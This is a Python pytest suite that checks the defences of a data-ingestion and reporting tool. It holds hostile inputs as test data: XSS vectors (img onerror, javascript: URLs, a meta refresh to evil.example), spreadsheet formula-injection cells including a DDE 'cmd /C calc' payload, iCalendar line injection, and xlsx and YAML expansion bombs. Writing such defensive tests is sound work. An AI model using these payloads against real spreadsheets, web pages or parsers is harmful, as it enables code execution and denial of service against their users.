"""Issue 16: the hostile test of ingestion and the runner, one test per attack.

Each test reproduces an attack that succeeded before the change (script in a
report, a formula in a CSV, a silent loss, a crash with a traceback, a run
that hung or left a stale claim) and checks the behaviour after it.
"""

from __future__ import annotations

import datetime as dt
import errno
import fcntl
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import duckdb
import nbformat
import numpy as np
import pandas as pd
import pytest
from conftest import NOW, write_csv

from smkit import load
from smkit.data import ingest_commit
from smkit.data.ingest import ingest
from smkit.data.readers import IngestError
from smkit.data.safe_csv import neutralise_cell
from smkit.data.safe_csv import write_csv as safe_write_csv
from smkit.data.store import StoreError, connect, fingerprint, table_counts
from smkit.playbooks.content_performance import plan
from smkit.run import runner
from smkit.run.catalog import ParameterError
from smkit.run.report_html import build_index, sanitize_html

HOSTILE = 'Orbi<img src=x onerror=alert("BRAND")>'
HEADER = "作品名称,发布时间,播放量,点赞量"


def run(files, table, store, **kw):
    return ingest([str(f) for f in files], table, store=store, now=NOW, **kw)


def posts_file(tmp_path: Path, name: str = "p.csv", rows: list[str] | None = None) -> Path:
    return write_csv(tmp_path / name, [HEADER] + (rows or ["a,2026-11-01,100,5", "b,2026-11-02,200,6"]))


def cli(*args: str, env: dict | None = None, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "smkit.run.cli", *args], capture_output=True, text=True, timeout=timeout, env={**os.environ, **(env or {})})


def one_line_exit_2(proc: subprocess.CompletedProcess, *needles: str) -> None:
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr and "Error:" not in proc.stderr.replace("smkit", "")
    for needle in needles:
        assert needle in proc.stderr, proc.stderr


# --- Security: script in reports ------------------------------------------------------------


class _Attrs(HTMLParser):
    def __init__(self):
        super().__init__()
        self.handlers, self.foreign_images, self.scripts = [], [], 0

    def handle_starttag(self, tag, attrs):
        self.handlers += [(tag, k) for k, _ in attrs if k.lower().startswith("on")]
        if tag == "img":
            src = dict(attrs).get("src") or ""
            if not src.startswith("data:image/"):
                self.foreign_images.append(src)
        self.scripts += tag == "script"


def test_sanitiser_removes_scripts_handlers_and_javascript_urls_but_keeps_escaped_text():
    page = (
        "<html><head><script>alert(1)</script><style>p{}</style></head><body>"
        "<p>Orbi&lt;img src=x onerror=alert(1)&gt;</p>"
        '<img src=x onerror=alert("BRAND")><img src="data:image/png;base64,AAAA">'
        '<a href=" java\nscript:alert(1)">x</a><a href="#top" onclick="steal()">top</a>'
        '<svg onload="x()"><a xlink:href="javascript:alert(1)">s</a></svg><iframe srcdoc="<script>1</script>"></iframe>'
        '<meta http-equiv="refresh" content="0;url=http://evil.example"></body></html>'
    )
    clean = sanitize_html(page)
    found = _Attrs()
    found.feed(clean)
    assert found.handlers == [] and found.foreign_images == [] and found.scripts == 0
    assert "javascript" not in clean and "iframe" not in clean and "refresh" not in clean
    assert "Orbi&lt;img src=x onerror=alert(1)&gt;" in clean  # the data is still shown, as text
    assert 'src="data:image/png;base64,AAAA"' in clean and 'href="#top"' in clean


@pytest.mark.slow
def test_hostile_brand_never_runs_in_data_overview_or_market_reports(sample_store, tmp_path):
    store = tmp_path / "hostile.duckdb"
    shutil.copy(sample_store, store)
    with duckdb.connect(str(store)) as con:
        con.execute("UPDATE posts SET account = ? WHERE account = 'Orbi'", [HOSTILE])
        con.execute("UPDATE account_daily SET account = ? WHERE account = 'Orbi'", [HOSTILE])
        con.execute("UPDATE mentions SET brand = ? WHERE brand = 'Orbi'", [HOSTILE])
        assert con.execute("SELECT count(*) FROM mentions WHERE brand = ?", [HOSTILE]).fetchone()[0] > 0
    reports = tmp_path / "reports"
    for book in ("data_overview", "market_analysis"):
        proc = cli("run", book, "--store", str(store), "--reports", str(reports), "--date", "2026-11-01", "--quiet", timeout=600)
        assert proc.returncode == 0, proc.stdout + proc.stderr
        page = (reports / "2026-11-01" / book / "report.html").read_text(encoding="utf-8")
        found = _Attrs()
        found.feed(page)
        assert found.handlers == [] and found.foreign_images == [] and found.scripts == 0, book
        assert "<img src=x" not in page and "onerror=alert" not in page.replace("&lt;img src=x onerror=alert", "")
    assert "Orbi&lt;img" in (reports / "2026-11-01" / "market_analysis" / "report.html").read_text(encoding="utf-8")


def test_unknown_platform_names_with_markup_are_quarantined(tmp_path, store):
    path = write_csv(tmp_path / "m.csv", ["平台,发布时间,品牌,作者,内容", f"{HOSTILE},2026-11-01 08:00,Lumina,u1,好", "Threads,2026-11-01 09:00,Lumina,u2,ok"])
    f = run([path], "mentions", store).files[0]
    assert (f.accepted, f.quarantined) == (1, 1)
    assert set(load("mentions", store=store)["platform"]) == {"threads"}  # a new platform is still kept


# --- Security: spreadsheet formulas --------------------------------------------------------


def test_csv_cells_that_start_a_formula_are_neutralised_and_numbers_stay_numbers(tmp_path):
    assert neutralise_cell('=HYPERLINK("http://evil.example/?x","F")') == '\'=HYPERLINK("http://evil.example/?x","F")'
    for cell in ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise_cell(cell) == "'" + cell
    for cell in ("-5", "+3.5", "-1.2e3", "plain", "", 5, -5.0):
        assert neutralise_cell(cell) == cell
    frame = pd.DataFrame({"user_id": ["=cmd|' /C calc'!A0", "007"], "n": [-3, 4], "delta": ["-2", "=1+1"]})
    path = safe_write_csv(frame, tmp_path / "a.csv", encoding="utf-8-sig")
    back = pd.read_csv(path, encoding="utf-8-sig", dtype=str)
    assert list(back["user_id"]) == ["'=cmd|' /C calc'!A0", "007"] and list(back["n"]) == ["-3", "4"] and list(back["delta"]) == ["-2", "'=1+1"]


def test_a_text_column_is_neutralised_in_arrow_as_cell_by_cell():
    """Text columns go through Arrow kernels (RE2): the same cells as :func:`neutralise_cell`, which uses Python's re
    (its \\d is any Unicode digit and its $ matches before a last newline)."""
    from smkit.data.safe_csv import neutralise

    rng = np.random.default_rng(7)
    alphabet = np.array(["=", "+", "-", "@", "\t", "\r", "\n", "1", "٣", ".", "e", "E", "a", "万", " "])
    cells = ["".join(rng.choice(alphabet, rng.integers(0, 6))) for _ in range(20_000)]
    cells += [None, "-5\n", "-5\n\n", "+.5", "-١٢", "=1+2", "-", "+-5", "-5.", "-.e5", "-1e5", "-1e", "-\n5"]
    for dtype in ("str", "string[pyarrow]", "string[python]"):
        column = pd.Series(cells, dtype=dtype).iloc[3:]  # a slice: Arrow's offsets do not start at zero
        got = neutralise(column.to_frame("c"))["c"]
        want = column.map(neutralise_cell, na_action="ignore")
        assert got.dtype == column.dtype
        assert got.fillna("<NA>").tolist() == want.fillna("<NA>").tolist()
        assert (got.fillna("") != column.fillna("")).sum() > 1_000  # the sample does hold formula cells


def test_calendar_csv_and_assignments_csv_hold_no_live_formula(tmp_path):
    table = pd.DataFrame(
        {
            "date": ["2026-12-01"],
            "time": ["20:00"],
            "start": [pd.Timestamp("2026-12-01 20:00", tz="Asia/Shanghai")],
            "platform": ["douyin"],
            "content_type": ["video"],
            "theme": ['=HYPERLINK("http://evil.example/?x","F")'],
            "expected_rate": [0.05],
            "confident": [True],
            "thin": [False],
        }
    )
    text = plan.calendar_csv(table, tmp_path / "calendar.csv").read_text(encoding="utf-8")
    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text and "'=HYPERLINK" in text

    from smkit.playbooks.personas import save_outputs

    class Model:
        def save(self, path):
            Path(path).write_bytes(b"model")

    class Fake:
        model = Model()

        def assignments(self):
            return pd.DataFrame({"user_id": ["=cmd|' /C calc'!A0"], "persona": [1], "persona_name": ["@night owls"]})

    paths = save_outputs(Fake(), tmp_path)
    saved = pd.read_csv(paths["assignments"], encoding="utf-8-sig", dtype=str)
    assert saved.loc[0, "user_id"] == "'=cmd|' /C calc'!A0" and saved.loc[0, "persona"] == "1" and saved.loc[0, "persona_name"] == "'@night owls"


def test_quarantine_csv_repeats_raw_cells_without_live_formulas(tmp_path, store):
    path = posts_file(tmp_path, rows=["a,2026-11-01,100,5", '=HYPERLINK("http://evil.example"),2026-11-01,=1+2,5'])
    f = run([path], "posts", store, platform="douyin", account="A").files[0]
    q = pd.read_csv(f.quarantine_file, encoding="utf-8-sig", dtype=str)
    assert q.loc[0, "作品名称"].startswith("'=HYPERLINK") and q.loc[0, "播放量"] == "'=1+2"


# --- Security: iCalendar -------------------------------------------------------------------


def test_ics_escapes_a_bare_carriage_return_and_folds_lines():
    table = pd.DataFrame(
        {
            "start": [pd.Timestamp("2026-12-01 20:00", tz="Asia/Shanghai")],
            "platform": ["douyin"],
            "content_type": ["video"],
            "theme": ["give\rX-INJECTED:1\rBEGIN:VEVENT" + "长" * 60],
            "confident": [True],
            "thin": [False],
        }
    )
    text = plan.to_ics(table, dt.datetime(2026, 11, 27, tzinfo=dt.UTC))
    lines = text.split("\r\n")
    assert not any(line.startswith(("X-INJECTED", "BEGIN:VEVENTX")) for line in lines)
    assert sum(line == "BEGIN:VEVENT" for line in lines) == 1
    assert "\r" not in text.replace("\r\n", "") and "\n" not in text.replace("\r\n", "")
    assert all(len(line.encode("utf-8")) <= 75 for line in lines)
    assert "give\\nX-INJECTED:1\\nBEGIN:VEVENT" in "".join(line[1:] if line.startswith(" ") else line for line in lines)


# --- Security: resource limits -------------------------------------------------------------


def _xlsx(path: Path, rows: list[list]) -> Path:
    with pd.ExcelWriter(path) as xl:
        pd.DataFrame(rows[1:], columns=rows[0]).to_excel(xl, index=False)
    return path


def test_an_xlsx_that_unpacks_to_a_huge_cell_is_refused_in_seconds(tmp_path, store):
    small = _xlsx(tmp_path / "small.xlsx", [["作品名称", "发布时间", "播放量"], ["PLACEHOLDER", "2026-11-01", 1]])
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(small) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            data = data.replace(b"PLACEHOLDER", b"a" * 20_000_000)  # one 20 MB cell in a file of a few KB
            dst.writestr(info.filename, data)
    assert path.stat().st_size < 100_000
    t0 = time.perf_counter()
    with pytest.raises(IngestError, match="times its size .*SMKIT_MAX_EXPANSION"):
        run([path], "posts", store, platform="douyin", account="A")
    assert time.perf_counter() - t0 < 3 and not store.exists()


def test_an_xlsx_with_more_rows_than_the_limit_is_refused_with_the_way_to_raise_it(tmp_path, store, monkeypatch):
    path = _xlsx(tmp_path / "many.xlsx", [["作品名称", "发布时间", "播放量"]] + [[f"t{i}", "2026-11-01", i] for i in range(30)])
    monkeypatch.setenv("SMKIT_MAX_XLSX_ROWS", "20")
    with pytest.raises(IngestError, match="31 rows .*SMKIT_MAX_XLSX_ROWS"):
        run([path], "posts", store, platform="douyin", account="A")
    monkeypatch.setenv("SMKIT_MAX_XLSX_ROWS", "100")
    assert run([path], "posts", store, platform="douyin", account="A").files[0].accepted == 30


def test_a_100000_column_csv_is_refused_in_seconds_with_a_short_message(tmp_path, store):
    path = tmp_path / "wide.csv"
    path.write_text(",".join(f"column_{i}" for i in range(100_000)) + "\n" + ",".join("1" for _ in range(100_000)) + "\n")
    t0 = time.perf_counter()
    with pytest.raises(IngestError) as err:
        run([path], "posts", store, platform="douyin", account="A")
    assert time.perf_counter() - t0 < 5
    assert "100,000 columns (limit 1,000; raise it with SMKIT_MAX_COLUMNS)" in str(err.value) and len(str(err.value)) < 300


def test_a_cell_over_the_length_limit_quarantines_its_row(tmp_path, store, monkeypatch):
    monkeypatch.setenv("SMKIT_MAX_CELL_CHARS", "1000")
    path = posts_file(tmp_path, rows=["a,2026-11-01,100,5", "b" * 5000 + ",2026-11-01,100,5"])
    f = run([path], "posts", store, platform="douyin", account="A").files[0]
    assert (f.accepted, f.quarantined) == (1, 1)
    q = pd.read_csv(f.quarantine_file, encoding="utf-8-sig")
    assert "5,000 characters (limit 1,000; raise it with SMKIT_MAX_CELL_CHARS)" in q.loc[0, "reason"]


def test_a_yaml_alias_bomb_in_a_schedule_is_refused_in_seconds(tmp_path):
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for prev, name in zip("abcdefgh", "bcdefghi"):
        lines.append(f"{name}: &{name} [*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev}]")
    lines += ["runs:", "  - playbook: data_overview", "    parameters:", "      account: *i"]
    path = tmp_path / "bomb.yml"
    path.write_text("\n".join(lines) + "\n")
    assert len(path.read_bytes()) < 1000
    t0 = time.perf_counter()
    with pytest.raises(ParameterError, match="SMKIT_MAX_YAML"):
        runner.load_schedule(path)
    assert time.perf_counter() - t0 < 2
    listed = tmp_path / "list.yml"
    listed.write_text("runs:\n  - playbook: data_overview\n    parameters:\n      account: [a, b]\n")
    with pytest.raises(ParameterError, match="parameter account must be one value"):
        runner.load_schedule(listed)


def test_jobs_are_capped_at_the_runs_and_the_cores(monkeypatch):
    monkeypatch.setattr(os, "cpu_count", lambda: 2)
    assert runner.effective_jobs(40, 2) == 2
    assert runner.effective_jobs(40, 10) == 2
    monkeypatch.setenv("SMKIT_MAX_JOBS", "8")
    assert runner.effective_jobs(40, 10) == 8 and runner.effective_jobs(1, 10) == 1


# --- Data loss: store paths ----------------------------------------------------------------


@pytest.mark.parametrize("kind", ["csv", "parquet", "folder"])
def test_a_store_that_is_not_a_duckdb_file_is_refused(tmp_path, kind):
    target = tmp_path / f"target.{kind}"
    if kind == "csv":
        target.write_text("a,b\n1,2\n")
    elif kind == "parquet":
        pd.DataFrame({"a": [1]}).to_parquet(target)
    else:
        target.mkdir()
    before = target.read_bytes() if target.is_file() else None
    with pytest.raises(IngestError, match="not a DuckDB store|is a folder"):
        run([posts_file(tmp_path)], "posts", target, platform="douyin", account="A")
    assert (target.read_bytes() if target.is_file() else None) == before
    proc = cli("ingest", str(posts_file(tmp_path, "q.csv")), "--table", "posts", "--platform", "douyin", "--account", "A", "--store", str(target))
    one_line_exit_2(proc, str(target))


# --- Data loss: nothing committed without its rejects on disk ------------------------------


def _bad_and_good(tmp_path: Path, name: str = "p.csv") -> Path:
    return posts_file(tmp_path, name, rows=["a,2026-11-01,100,5", "b,2026-11-01,-7,5"])


def test_a_blocked_quarantine_folder_writes_nothing(tmp_path, store):
    run([posts_file(tmp_path, "first.csv", rows=["z,2026-10-01,1,1"])], "posts", store, platform="douyin", account="A")
    before = (table_counts(store), fingerprint(store))
    (store.parent / "quarantine").write_text("a file where the folder should be")
    with pytest.raises(IngestError, match="cannot write the quarantine file"):
        run([_bad_and_good(tmp_path)], "posts", store, platform="douyin", account="A")
    assert (table_counts(store), fingerprint(store)) == before


def test_disk_full_while_writing_quarantine_says_so_and_keeps_the_store(tmp_path, store, monkeypatch):
    run([posts_file(tmp_path, "first.csv", rows=["z,2026-10-01,1,1"])], "posts", store, platform="douyin", account="A")
    before = (table_counts(store), fingerprint(store))

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(ingest_commit, "write_rows_csv", full)
    with pytest.raises(IngestError, match="the disk is full"):
        run([_bad_and_good(tmp_path)], "posts", store, platform="douyin", account="A")
    assert (table_counts(store), fingerprint(store)) == before


def test_disk_full_inside_the_transaction_leaves_no_rows_and_no_orphan_files(tmp_path, store, monkeypatch):
    run([posts_file(tmp_path, "first.csv", rows=["z,2026-10-01,1,1"])], "posts", store, platform="douyin", account="A")
    before = (table_counts(store), fingerprint(store))
    real = ingest_commit.upsert

    def full(con, table, frame):
        real(con, table, frame)
        raise duckdb.IOException("IO Error: Could not write file: No space left on device")

    monkeypatch.setattr(ingest_commit, "upsert", full)
    with pytest.raises(IngestError) as err:
        run([_bad_and_good(tmp_path)], "posts", store, platform="douyin", account="A")
    assert "the disk is full" in str(err.value) and "rollback" not in str(err.value)
    assert (table_counts(store), fingerprint(store)) == before
    assert list((store.parent / "quarantine").glob("*p.csv")) == []


def test_not_enough_free_space_is_refused_before_writing(tmp_path, store, monkeypatch):
    monkeypatch.setattr(ingest_commit.shutil, "disk_usage", lambda p: shutil._ntuple_diskusage(10**9, 10**9 - 1000, 1000))
    with pytest.raises(IngestError, match="is full: about .* MB are needed"):
        run([posts_file(tmp_path)], "posts", store, platform="douyin", account="A")
    assert not store.exists() or table_counts(store) == {}


def test_quarantine_and_report_are_on_disk_before_the_commit(tmp_path, store, monkeypatch):
    seen = {}
    real_connect = ingest_commit.connect

    class Watch:
        def __init__(self, con):
            self.con = con

        def execute(self, sql, *args):
            if sql == "COMMIT":  # a kill here must not lose the rejects
                seen["quarantine"] = sorted(p.name for p in (store.parent / "quarantine").glob("*.csv"))
                seen["reports"] = [json.loads(p.read_text())["status"] for p in (store.parent / "ingest_reports").glob("*.json")]
            return self.con.execute(sql, *args)

        def __getattr__(self, name):
            return getattr(self.con, name)

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.con.close()

    monkeypatch.setattr(ingest_commit, "connect", lambda *a, **k: Watch(real_connect(*a, **k)))
    report = run([_bad_and_good(tmp_path)], "posts", store, platform="douyin", account="A")
    assert len(seen["quarantine"]) == 1 and seen["reports"] == ["committing"]
    saved = json.loads(next((store.parent / "ingest_reports").glob("*.json")).read_text())
    assert saved["status"] == "committed" and saved["totals"]["quarantined"] == report.quarantined == 1


def test_two_files_with_one_stem_keep_both_quarantine_files(tmp_path, store):
    (tmp_path / "x").mkdir()
    (tmp_path / "y").mkdir()
    a = posts_file(tmp_path / "x", "works.csv", rows=["a,2026-11-01,-1,5"])
    b = posts_file(tmp_path / "y", "works.csv", rows=["b,2026-11-01,-2,5"])
    report = run([a, b], "posts", store, platform="douyin", account="A")
    files = [f.quarantine_file for f in report.files]
    assert len(set(files)) == 2
    assert [pd.read_csv(f, encoding="utf-8-sig")["作品名称"].tolist() for f in files] == [["a"], ["b"]]


# --- Wrong data: truncated files, ragged rows, encodings, values ---------------------------


def test_a_csv_cut_mid_line_quarantines_the_cut_record_and_says_truncated(tmp_path, store):
    path = tmp_path / "cut.csv"
    path.write_text(HEADER + "\na,2026-11-01,100,5\nb,2026-11-02,200,6\nc,2026-02-2", encoding="utf-8")
    report = run([path], "posts", store, platform="douyin", account="A")
    f = report.files[0]
    assert (f.rows_read, f.accepted, f.quarantined) == (3, 2, 1) and f.truncated
    q = pd.read_csv(f.quarantine_file, encoding="utf-8-sig")
    assert q.loc[0, "reason"] == "row has 2 fields, header has 4; the file looks truncated: it ends mid-record (still downloading, or cut off?)"
    assert q.loc[0, "row"] == 4 and q.loc[0, "raw_record"] == "c,2026-02-2"
    assert "looks truncated" in report.summary()
    assert set(load("posts", store=store)["title"]) == {"a", "b"}


def test_an_unterminated_quote_at_the_end_is_truncated(tmp_path, store):
    path = tmp_path / "q.csv"
    path.write_text(HEADER + '\na,2026-11-01,100,5\n"b,2026-11-02,200,6', encoding="utf-8")
    f = run([path], "posts", store, platform="douyin", account="A").files[0]
    assert f.truncated and f.accepted == 1 and f.quarantined == 1


def test_ragged_rows_are_quarantined_never_padded(tmp_path, store):
    header = ",".join(["作品名称", "发布时间", "播放量"] + [f"指标{i}" for i in range(13)])
    full = "a,2026-11-01,100," + ",".join(str(i) for i in range(13))
    short = "b,2026-11-01,100," + ",".join(str(i) for i in range(12))
    long = "c,2026-11-01,100," + ",".join(str(i) for i in range(14))
    path = write_csv(tmp_path / "r.csv", [header, full, short, long, full.replace("a,", "d,")])
    f = run([path], "posts", store, platform="douyin", account="A").files[0]
    assert (f.rows_read, f.accepted, f.quarantined, f.ragged_rows) == (4, 2, 2, 2) and f.reconciles()
    q = pd.read_csv(f.quarantine_file, encoding="utf-8-sig").set_index("row")
    assert q.loc[3, "reason"] == "row has 15 fields, header has 16" and q.loc[4, "reason"] == "row has 17 fields, header has 16"
    assert sorted(load("posts", store=store)["title"]) == ["a", "d"]


def test_a_file_whose_every_row_is_ragged_the_same_way_is_refused(tmp_path, store):
    path = write_csv(tmp_path / "v.csv", ["作品名称,发布时间,播放量,点赞量,收藏量", "a,2026-11-01,100,5", "b,2026-11-02,7,1"])
    with pytest.raises(IngestError, match="every row has 4 fields but the header has 5: the header probably comes from another export version"):
        run([path], "posts", store, platform="douyin", account="A")


def test_a_file_utf8_then_gbk_is_refused_naming_the_line_never_mojibake(tmp_path, store):
    path = tmp_path / "mixed.csv"
    good = "".join(f"标题{i},2026-11-01,{i},1\n" for i in range(3))
    path.write_bytes((HEADER + "\n" + good).encode("utf-8") + "标题9,2026-11-01,9,1\n".encode("gbk"))
    with pytest.raises(IngestError, match="mixes encodings: it is UTF-8 up to line 4 but line 5 is not"):
        run([path], "posts", store, platform="douyin", account="A")
    assert not store.exists()


def test_infinite_and_huge_numbers_are_quarantined_not_crashing(tmp_path, store):
    path = write_csv(
        tmp_path / "n.csv",
        [
            "作品名称,发布时间,播放量,点赞量,平均播放时长",
            "ok,2026-11-01,100,5,10",
            "inf,2026-11-01,inf,5,10",
            "Infinity,2026-11-01,Infinity,5,10",
            "e309,2026-11-01,1e309,5,10",
            "e20,2026-11-01,1e20,5,10",
            "watch,2026-11-01,100,5,inf",
        ],
    )
    f = run([path], "posts", store, platform="douyin", account="A").files[0]
    assert (f.accepted, f.quarantined) == (1, 5)
    reasons = dict(zip(*pd.read_csv(f.quarantine_file, encoding="utf-8-sig")[["作品名称", "reason"]].T.values))
    assert reasons["e20"] == "views: cannot read '1e+20' as a whole non-negative number" or reasons["e20"].startswith("views: cannot read")
    assert reasons["watch"].startswith("avg_watch_seconds: cannot read")
    spend = write_csv(tmp_path / "s.csv", ["活动ID,活动名称,开始日期,结束日期,预算", "C1,a,2026-10-01,2026-10-20,inf", "C2,b,2026-10-01,2026-10-20,100"])
    g = run([spend], "campaigns", store).files[0]
    assert (g.accepted, g.quarantined) == (1, 1)


def test_dates_before_2000_are_quarantined_unless_allowed(tmp_path, store):
    rows = ["bc,-1,1,1", "year1,0001-01-01,1,1", "y1900,1900-01-01,1,1", "ok,2026-11-01,1,1"]
    f = run([posts_file(tmp_path, rows=rows)], "posts", store, platform="douyin", account="A").files[0]
    assert (f.accepted, f.quarantined) == (1, 3)
    q = pd.read_csv(f.quarantine_file, encoding="utf-8-sig").set_index("作品名称")
    assert "published_at is before 2000-01-01 (pass --earliest-date to allow older dates)" in q.loc["y1900", "reason"]
    g = run([posts_file(tmp_path, "old.csv", rows=["y1900,1900-01-01,1,1"])], "posts", store, platform="douyin", account="A", earliest="1900-01-01").files[0]
    assert g.accepted == 1


def test_nul_bytes_are_removed_and_counted(tmp_path, store):
    path = tmp_path / "nul.csv"
    path.write_bytes((HEADER + "\nti\x00tle,2026-11-01,100,5\n").encode())
    report = run([path], "posts", store, platform="douyin", account="A")
    assert report.files[0].nul_bytes_removed == 1 and "removed 1 NUL byte" in report.summary()
    assert load("posts", store=store)["title"].tolist() == ["title"]


def test_the_nul_prefilter_never_misses_a_nul_and_passes_clean_text():
    import pyarrow as pa

    from smkit.data.ingest import _may_hold_nul

    assert not _may_hold_nul(pa.array(["标题", None, ""], pa.large_string()))
    assert _may_hold_nul(pa.array(["a", "b\x00c"], pa.large_string()))
    # a slice whose own cells are clean but whose buffer holds a NUL: a false alarm, which only costs the exact search
    assert _may_hold_nul(pa.array(["a", "b\x00c"], pa.large_string()).slice(0, 1))
    assert not _may_hold_nul(pa.array([None, None], pa.large_string()))


def test_text_columns_are_read_as_one_arrow_chunk(tmp_path, monkeypatch):
    from smkit.data import aliases, readers

    monkeypatch.setattr(readers, "_block_size", lambda: 1 << 10)  # many read blocks
    path = write_csv(tmp_path / "posts.csv", [HEADER] + [f"标题 {i},2026-11-01,{i},5" for i in range(2000)])
    raw = readers.read_export(path, aliases.header_score("posts", None), aliases.text_columns("posts", None))
    title = raw.frame.iloc[:, 0]
    assert title.array._pa_array.num_chunks == 1 and title.tolist()[1999] == "标题 1999"


def test_xlsx_formula_cells_without_a_saved_value_are_reported(tmp_path, store):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["作品名称", "发布时间", "播放量"])
    ws.append(["a", "2026-11-01", 5])
    ws.append(["b", "2026-11-01", "=C2*2"])  # openpyxl saves no cached value
    wb.save(tmp_path / "f.xlsx")
    report = run([tmp_path / "f.xlsx"], "posts", store, platform="douyin", account="A")
    assert report.files[0].formula_cells == ["C3"]
    assert "1 formula cell(s) have no saved value" in report.summary()


# --- Crashes become one line and exit 2 ----------------------------------------------------


def test_cr_only_line_endings_and_a_long_first_field_are_read(tmp_path, store):
    cr = tmp_path / "cr.csv"
    cr.write_bytes((HEADER + "\ra,2026-11-01,100,5\rb,2026-11-02,7,1\r").encode())
    assert run([cr], "posts", store, platform="douyin", account="A").files[0].accepted == 2
    long = posts_file(tmp_path, "long.csv", rows=["x" * 140_000 + ",2026-11-01,1,1", "ok,2026-11-01,1,1"])
    f = run([long], "posts", store, platform="douyin", account="A").files[0]
    assert (f.accepted, f.quarantined) == (1, 1)


def test_an_unreadable_file_is_one_message(tmp_path, store, monkeypatch):
    path = posts_file(tmp_path)
    real_open = Path.open

    def deny(self, *args, **kwargs):
        if self == path:
            raise PermissionError(errno.EACCES, "Permission denied", str(self))
        return real_open(self, *args, **kwargs)

    monkeypatch.setattr(Path, "open", deny)
    with pytest.raises(IngestError, match="cannot read the file \\(Permission denied\\)"):
        run([path], "posts", store, platform="douyin", account="A")


def test_a_read_only_store_names_the_real_error(tmp_path, store, monkeypatch):
    run([posts_file(tmp_path)], "posts", store, platform="douyin", account="A")
    real = ingest_commit.upsert

    def read_only(con, table, frame):
        raise duckdb.IOException('IO Error: Cannot open file "x.wal": Permission denied')

    monkeypatch.setattr(ingest_commit, "upsert", read_only)
    with pytest.raises(IngestError) as err:
        run([posts_file(tmp_path, "b.csv")], "posts", store, platform="douyin", account="A")
    assert "permission denied" in str(err.value) and "rollback" not in str(err.value) and "no transaction" not in str(err.value)
    assert real is not None


@pytest.mark.parametrize(
    "extra, needle",
    [
        (["--tz", "Mars/Olympus"], "unknown time zone 'Mars/Olympus'"),
        (["--aliases", "missing.csv"], "alias file missing.csv: no such file"),
    ],
)
def test_bad_ingest_options_are_one_line_and_exit_2(tmp_path, store, extra, needle):
    proc = cli("ingest", str(posts_file(tmp_path)), "--table", "posts", "--platform", "douyin", "--account", "A", "--store", str(store), *extra)
    one_line_exit_2(proc, needle)
    assert not store.exists()


def test_the_ingest_command_ends_with_its_output_whole_and_its_exit_code(tmp_path, store):
    # it skips the interpreter's teardown: what it printed must still arrive, and the code still say what happened
    proc = cli("ingest", str(posts_file(tmp_path)), "--table", "posts", "--platform", "douyin", "--account", "A", "--store", str(store), "--json")
    assert proc.returncode == 0, proc.stderr
    report = json.loads(proc.stdout[proc.stdout.index("\n{") + 1 :])
    assert [(f["accepted"], f["quarantined"]) for f in report["files"]] == [(2, 0)]
    assert len(load("posts", store=store)) == 2
    one_line_exit_2(cli("ingest", str(tmp_path / "missing.csv"), "--table", "posts", "--store", str(store)), "no such file")


@pytest.mark.parametrize(
    "date, zh, en",
    [("2026-13-45", "--date 不是有效的日期", "--date is not a calendar date"), ("0001-01-01", "--date 0001-01-01 不在", "--date 0001-01-01 is outside")],
)
def test_a_bad_report_date_exits_2_and_makes_no_folder(tmp_path, date, zh, en):
    reports = tmp_path / "reports"
    one_line_exit_2(cli("run", "data_overview", "--date", date, "--reports", str(reports)), zh)
    one_line_exit_2(cli("run", "data_overview", "--date", date, "--reports", str(reports), "--lang", "en"), en)
    assert not reports.exists()


def test_an_old_schema_store_reads_missing_columns_as_unknown(tmp_path):
    store = tmp_path / "old.duckdb"
    with duckdb.connect(str(store)) as con:
        con.execute("CREATE TABLE posts (platform VARCHAR, account VARCHAR, post_id VARCHAR, published_at TIMESTAMPTZ, views BIGINT)")
        con.execute("INSERT INTO posts VALUES ('douyin', 'A', '1', TIMESTAMPTZ '2026-11-01 10:00:00+08', 5)")
    posts = load("posts", store=store)
    assert posts.loc[0, "views"] == 5 and pd.isna(posts.loc[0, "likes"]) and pd.isna(posts.loc[0, "completion_rate"])
    assert str(posts["likes"].dtype) == "Int64"


# --- Concurrency and interrupted runs ------------------------------------------------------


def test_a_second_ingest_waits_for_the_first_then_proceeds(tmp_path, store, capfd):
    run([posts_file(tmp_path, "0.csv")], "posts", store, platform="douyin", account="A")
    fd = os.open(store.with_name(store.name + ".ingest.lock"), os.O_RDWR)
    fcntl.flock(fd, fcntl.LOCK_EX)
    threading.Timer(0.6, os.close, [fd]).start()
    t0 = time.perf_counter()
    report = run([posts_file(tmp_path, "1.csv", rows=["new,2026-11-03,1,1"])], "posts", store, platform="douyin", account="A")
    assert time.perf_counter() - t0 >= 0.5 and report.files[0].inserted == 1
    assert "waiting for another ingest" in capfd.readouterr().err


def test_a_second_ingest_gives_up_after_the_timeout_with_a_message(tmp_path, store, monkeypatch):
    monkeypatch.setenv("SMKIT_LOCK_TIMEOUT", "0.5")
    store.parent.mkdir(parents=True)
    fd = os.open(store.with_name(store.name + ".ingest.lock"), os.O_CREAT | os.O_RDWR)
    fcntl.flock(fd, fcntl.LOCK_EX)
    try:
        with pytest.raises(IngestError, match="another ingest into .* is still running .*SMKIT_LOCK_TIMEOUT"):
            run([posts_file(tmp_path)], "posts", store, platform="douyin", account="A")
    finally:
        os.close(fd)


def test_a_store_held_by_another_process_is_waited_for(tmp_path, store, monkeypatch):
    run([posts_file(tmp_path)], "posts", store, platform="douyin", account="A")
    holder = subprocess.Popen(
        [sys.executable, "-c", f"import duckdb,time; c=duckdb.connect({str(store)!r}); print('held', flush=True); time.sleep(1.5)"],
        stdout=subprocess.PIPE,
        text=True,
    )
    assert holder.stdout.readline().strip() == "held"
    assert len(load("posts", store=store)) == 2  # waited for the writer instead of failing
    holder.wait()
    monkeypatch.setenv("SMKIT_LOCK_TIMEOUT", "0.3")
